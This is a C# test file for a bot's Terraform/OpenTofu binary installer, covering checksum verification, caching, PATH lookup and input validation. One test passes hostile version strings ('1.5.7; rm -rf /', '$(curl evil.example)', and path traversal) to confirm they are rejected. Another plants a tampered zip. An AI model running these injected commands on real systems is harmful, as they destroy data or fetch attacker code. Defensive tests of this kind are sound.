using System.Runtime.Versioning;
using IaCBot.Core.Processes;
using IaCBot.Core.Redaction;
using IaCBot.Core.RepoConfig;
using IaCBot.Core.Terraform;
using IaCBot.Infrastructure.Processes;
using IaCBot.Infrastructure.Terraform;
using Microsoft.Extensions.DependencyInjection;

namespace IaCBot.Infrastructure.Tests.Terraform;

// The programs installed here are shell scripts, so these tests run where the server does: on Unix.
[UnsupportedOSPlatform("windows")]
public sealed class TerraformBinariesTests : IDisposable
{
    private const UnixFileMode Executable = (UnixFileMode)0b111_101_101;
    private static readonly ReleasePlatform LinuxAmd64 = new("linux", "amd64");
    private readonly FakeReleaseSite _site = new();
    private readonly HttpClient _http = new();
    private readonly string _root = Directory.CreateTempSubdirectory("iacbot-tfbin-").FullName;
    private readonly string _binDir;
    private readonly string _pathDir;

    public TerraformBinariesTests()
    {
        _binDir = Path.Combine(_root, "bin");
        _pathDir = Directory.CreateDirectory(Path.Combine(_root, "path")).FullName;
    }

    [Fact]
    public async Task A_version_found_nowhere_is_downloaded_verified_and_installed_as_an_executable_that_runs()
    {
        PublishTerraform("1.5.7");

        var binary = await Binaries().ResolveAsync("1.5.7", TerraformDistribution.Terraform, CancellationToken.None);

        Assert.Equal(Path.Combine(_binDir, "1.5.7", "terraform"), binary);
        Assert.True(File.GetUnixFileMode(binary).HasFlag(UnixFileMode.UserExecute));
        Assert.Equal("Terraform v1.5.7\n", await RunAsync(binary));
        Assert.Equal(["1.5.7"], Entries(_binDir));
        Assert.Equal(["terraform"], Entries(Path.Combine(_binDir, "1.5.7")));
    }

    [Fact]
    public async Task A_version_already_downloaded_is_not_downloaded_again()
    {
        PublishTerraform("1.5.7");
        await Binaries().ResolveAsync("1.5.7", TerraformDistribution.Terraform, CancellationToken.None);

        var again = await Binaries().ResolveAsync("1.5.7", TerraformDistribution.Terraform, CancellationToken.None);

        Assert.Equal(Path.Combine(_binDir, "1.5.7", "terraform"), again);
        Assert.Equal(1, _site.Requests("terraform_1.5.7_linux_amd64.zip"));
    }

    [Fact]
    public async Task Jobs_asking_for_the_same_version_at_once_download_it_once()
    {
        // The delay keeps the first download in flight while the other jobs ask.
        PublishTerraform("1.5.7", zipDelay: TimeSpan.FromMilliseconds(300));

        var binaries = await Task.WhenAll(Enumerable.Range(0, 3).Select(_ =>
            Binaries().ResolveAsync("1.5.7", TerraformDistribution.Terraform, CancellationToken.None)));

        Assert.All(binaries, binary => Assert.Equal(Path.Combine(_binDir, "1.5.7", "terraform"), binary));
        Assert.Equal(1, _site.Requests("terraform_1.5.7_linux_amd64.zip"));
        Assert.Equal("Terraform v1.5.7\n", await RunAsync(binaries[0]));
    }

    [Fact]
    public async Task A_zip_whose_checksum_does_not_match_is_refused_and_nothing_is_left_in_the_bin_dir()
    {
        var published = TerraformZip("1.5.7");
        var tampered = ReleaseFiles.Zip(("terraform", "#!/bin/sh\necho pwned\n"));
        _site.Publish("terraform/1.5.7/terraform_1.5.7_SHA256SUMS", ReleaseFiles.Sums("terraform", "1.5.7", published));
        _site.Publish("terraform/1.5.7/terraform_1.5.7_linux_amd64.zip", tampered);

        var error = await Assert.ThrowsAsync<TerraformBinaryException>(() =>
            Binaries().ResolveAsync("1.5.7", TerraformDistribution.Terraform, CancellationToken.None));

        Assert.Contains("SHA256 of terraform_1.5.7_linux_amd64.zip", error.Message, StringComparison.Ordinal);
        Assert.Contains("The download was deleted", error.Message, StringComparison.Ordinal);
        Assert.Empty(Entries(_binDir));
    }

    [Fact]
    public async Task A_zip_with_no_line_in_the_checksum_file_is_not_even_downloaded()
    {
        var zip = TerraformZip("1.5.7");
        _site.Publish("terraform/1.5.7/terraform_1.5.7_SHA256SUMS", ReleaseFiles.Sums("terraform", "1.5.7", zip, leaveOut: "linux_amd64"));
        _site.Publish("terraform/1.5.7/terraform_1.5.7_linux_amd64.zip", zip);

        var error = await Assert.ThrowsAsync<TerraformBinaryException>(() =>
            Binaries().ResolveAsync("1.5.7", TerraformDistribution.Terraform, CancellationToken.None));

        Assert.Contains($"{_site.Url}terraform/1.5.7/terraform_1.5.7_SHA256SUMS lists no checksum for terraform_1.5.7_linux_amd64.zip", error.Message, StringComparison.Ordinal);
        Assert.Equal(0, _site.Requests("terraform_1.5.7_linux_amd64.zip"));
        Assert.False(File.Exists(Path.Combine(_binDir, "1.5.7", "terraform")));
    }

    [Fact]
    public async Task A_version_the_site_does_not_have_is_an_error_naming_the_version_and_the_url()
    {
        var error = await Assert.ThrowsAsync<TerraformBinaryException>(() =>
            Binaries().ResolveAsync("1.99.0", TerraformDistribution.Terraform, CancellationToken.None));

        Assert.Equal(
            $"terraform 1.99.0 could not be downloaded: GET {_site.Url}terraform/1.99.0/terraform_1.99.0_SHA256SUMS answered 404 Not Found. "
            + "Check that 1.99.0 is a released version and that linux_amd64 is among its platforms.",
            error.Message);
    }

    [Fact]
    public async Task A_zip_without_the_program_installs_nothing()
    {
        var zip = ReleaseFiles.Zip(("LICENSE.txt", "licence"), ("README.md", "readme"));
        _site.Publish("terraform/1.5.7/terraform_1.5.7_SHA256SUMS", ReleaseFiles.Sums("terraform", "1.5.7", zip));
        _site.Publish("terraform/1.5.7/terraform_1.5.7_linux_amd64.zip", zip);

        var error = await Assert.ThrowsAsync<TerraformBinaryException>(() =>
            Binaries().ResolveAsync("1.5.7", TerraformDistribution.Terraform, CancellationToken.None));

        Assert.Contains("holds no file named terraform", error.Message, StringComparison.Ordinal);
        Assert.Empty(Directory.EnumerateFiles(_binDir, "*", SearchOption.AllDirectories));
    }

    [Theory]
    [InlineData("1.5.7; rm -rf /")]
    [InlineData("../1.5.7")]
    [InlineData("1.5.7/../../../etc")]
    [InlineData("$(curl evil.example)")]
    [InlineData("1.5.7\n")]
    [InlineData("1.5.7-")]
    [InlineData("1.5.7-rc1..x")]
    [InlineData(">= 1.5")]
    [InlineData("latest")]
    [InlineData("")]
    public async Task A_terraform_version_that_is_not_a_version_is_refused_before_anything_is_looked_up(string version)
    {
        var error = await Assert.ThrowsAsync<TerraformBinaryException>(() =>
            Binaries().ResolveAsync(version, TerraformDistribution.Terraform, CancellationToken.None));

        Assert.Contains("is not a version IaCBot can install", error.Message, StringComparison.Ordinal);
        Assert.Equal(0, _site.AllRequests);
        Assert.False(Directory.Exists(_binDir));
    }

    [Theory]
    [InlineData("v1.5.7", "1.5.7")]
    [InlineData("1.6", "1.6.0")]
    [InlineData("1.6.0-rc1", "1.6.0-rc1")]
    public async Task Versions_are_spelled_as_the_release_files_spell_them(string asked, string released)
    {
        PublishTerraform(released);

        var binary = await Binaries().ResolveAsync(asked, TerraformDistribution.Terraform, CancellationToken.None);

        Assert.Equal(Path.Combine(_binDir, released, "terraform"), binary);
        Assert.Equal($"Terraform v{released}\n", await RunAsync(binary));
    }

    [Fact]
    public async Task A_versioned_binary_on_PATH_wins_over_bin_dir_and_download()
    {
        PublishTerraform("1.5.7");
        var onPath = Path.Combine(_pathDir, "terraform1.5.7");
        File.WriteAllText(onPath, ReleaseFiles.VersionScript("Terraform", "1.5.7"));
        File.SetUnixFileMode(onPath, Executable);
        WriteExecutable(Path.Combine(_binDir, "1.5.7", "terraform"), "Terraform", "1.5.7");

        var binary = await Binaries().ResolveAsync("1.5.7", TerraformDistribution.Terraform, CancellationToken.None);

        Assert.Equal(onPath, binary);
        Assert.Equal(0, _site.AllRequests);
    }

    [Fact]
    public async Task A_version_in_bin_dir_is_used_without_downloading()
    {
        var installed = Path.Combine(_binDir, "1.5.7", "terraform");
        WriteExecutable(installed, "Terraform", "1.5.7");

        var binary = await Binaries(download: false).ResolveAsync("1.5.7", TerraformDistribution.Terraform, CancellationToken.None);

        Assert.Equal(installed, binary);
        Assert.Equal(0, _site.AllRequests);
    }

    [Fact]
    public async Task OpenTofu_is_downloaded_from_its_release_tag_with_its_own_file_names_into_its_own_folder()
    {
        var zip = ReleaseFiles.Zip(
            ("CHANGELOG.md", "changes"), ("LICENSE", "licence"), ("README.md", "readme"),
            ("tofu", ReleaseFiles.VersionScript("OpenTofu", "1.6.2")));
        _site.Publish("v1.6.2/tofu_1.6.2_SHA256SUMS", ReleaseFiles.Sums("tofu", "1.6.2", zip));
        _site.Publish("v1.6.2/tofu_1.6.2_linux_amd64.zip", zip);

        var binary = await Binaries().ResolveAsync("1.6.2", TerraformDistribution.OpenTofu, CancellationToken.None);

        Assert.Equal(Path.Combine(_binDir, "tofu", "1.6.2", "tofu"), binary);
        Assert.Equal("OpenTofu v1.6.2\n", await RunAsync(binary));
        Assert.Equal(["tofu"], Entries(Path.Combine(_binDir, "tofu", "1.6.2")));
    }

    [Fact]
    public async Task With_downloads_off_a_missing_version_is_an_error_that_says_how_to_install_it()
    {
        PublishTerraform("1.5.7");

        var error = await Assert.ThrowsAsync<TerraformBinaryException>(() =>
            Binaries(download: false).ResolveAsync("1.5.7", TerraformDistribution.Terraform, CancellationToken.None));

        Assert.Equal(
            $"terraform 1.5.7 is not installed: IaCBot looked for terraform1.5.7 on PATH ({_pathDir}) and for {Path.Combine(_binDir, "1.5.7", "terraform")}. "
            + $"Install it on the server at one of those places, or set terraform:download: true so that IaCBot downloads it from {_site.Url}terraform/1.5.7/.",
            error.Message);
        Assert.Equal(0, _site.AllRequests);
    }

    [Fact]
    public async Task Without_a_bin_dir_a_version_not_on_PATH_is_an_error_that_says_to_set_one()
    {
        var binaries = new TerraformBinaries(_http, Settings(download: true) with { BinDir = null }, LinuxAmd64);

        var error = await Assert.ThrowsAsync<TerraformBinaryException>(() =>
            binaries.ResolveAsync("1.6.2", TerraformDistribution.OpenTofu, CancellationToken.None));

        Assert.Contains("IaCBot looked for tofu1.6.2 on PATH", error.Message, StringComparison.Ordinal);
        Assert.Contains("terraform:bin_dir is not set", error.Message, StringComparison.Ordinal);
        Assert.Equal(0, _site.AllRequests);
    }

    [Theory]
    [InlineData(TerraformDistribution.Terraform, "/opt/terraform/terraform")]
    [InlineData(TerraformDistribution.OpenTofu, "tofu")]
    public async Task No_version_means_the_servers_default_binary(TerraformDistribution distribution, string expected)
    {
        var binary = await Binaries().ResolveAsync(null, distribution, CancellationToken.None);

        Assert.Equal(expected, binary);
        Assert.Equal(0, _site.AllRequests);
    }

    [Fact]
    public async Task Credentials_in_a_mirror_url_never_reach_the_error()
    {
        var mirror = new UriBuilder(_site.Url) { UserName = "mirror-user", Password = "s3cret-password" }.Uri;
        var binaries = new TerraformBinaries(_http, Settings(download: true) with { TerraformReleasesUrl = mirror }, LinuxAmd64);

        var error = await Assert.ThrowsAsync<TerraformBinaryException>(() =>
            binaries.ResolveAsync("1.5.7", TerraformDistribution.Terraform, CancellationToken.None));

        Assert.Contains($"{_site.Url}terraform/1.5.7/terraform_1.5.7_SHA256SUMS answered 404", error.Message, StringComparison.Ordinal);
        Assert.DoesNotContain("s3cret", error.Message, StringComparison.Ordinal);
        Assert.DoesNotContain("mirror-user", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_registration_downloads_through_the_named_http_client_for_the_servers_platform()
    {
        PublishTerraform("1.5.7", platform: ReleasePlatform.Current.ToString());
        var services = new ServiceCollection();
        services.AddHttpClient("releases");
        services.AddTerraformBinaries(_ => Settings(download: true), "releases");
        await using var provider = services.BuildServiceProvider();

        var binary = await provider.GetRequiredService<ITerraformBinaries>().ResolveAsync("1.5.7", TerraformDistribution.Terraform, CancellationToken.None);

        Assert.Equal("Terraform v1.5.7\n", await RunAsync(binary));
    }

    public void Dispose()
    {
        _site.Dispose();
        _http.Dispose();
        Directory.Delete(_root, recursive: true);
    }

    private TerraformBinaries Binaries(bool download = true) => new(_http, Settings(download), LinuxAmd64);

    private TerraformBinarySettings Settings(bool download) =>
        new("/opt/terraform/terraform", "tofu", _binDir, download, _site.Url, _site.Url, [_pathDir]);

    private static byte[] TerraformZip(string version) =>
        ReleaseFiles.Zip(("LICENSE.txt", "licence"), ("terraform", ReleaseFiles.VersionScript("Terraform", version)));

    private void PublishTerraform(string version, TimeSpan? zipDelay = null, string platform = "linux_amd64")
    {
        var zip = TerraformZip(version);
        _site.Publish($"terraform/{version}/terraform_{version}_SHA256SUMS", ReleaseFiles.Sums("terraform", version, zip, platform: platform));
        _site.Publish($"terraform/{version}/terraform_{version}_{platform}.zip", zip, zipDelay);
    }

    private static void WriteExecutable(string path, string product, string version)
    {
        Directory.CreateDirectory(Path.GetDirectoryName(path)!);
        File.WriteAllText(path, ReleaseFiles.VersionScript(product, version));
        File.SetUnixFileMode(path, Executable);
    }

    private static string[] Entries(string directory) =>
        Directory.Exists(directory) ? Directory.EnumerateFileSystemEntries(directory).Select(e => Path.GetFileName(e)).Order().ToArray() : [];

    private static async Task<string> RunAsync(string binary)
    {
        var runner = new CliWrapProcessRunner(TimeProvider.System, TimeSpan.FromSeconds(2), Redactor.None);
        var result = await runner.RunAsync(new ProcessSpec(binary, ["version"], Path.GetTempPath(), TimeSpan.FromMinutes(1)), CancellationToken.None);
        Assert.Equal(0, result.ExitCode);
        return result.Output;
    }
}
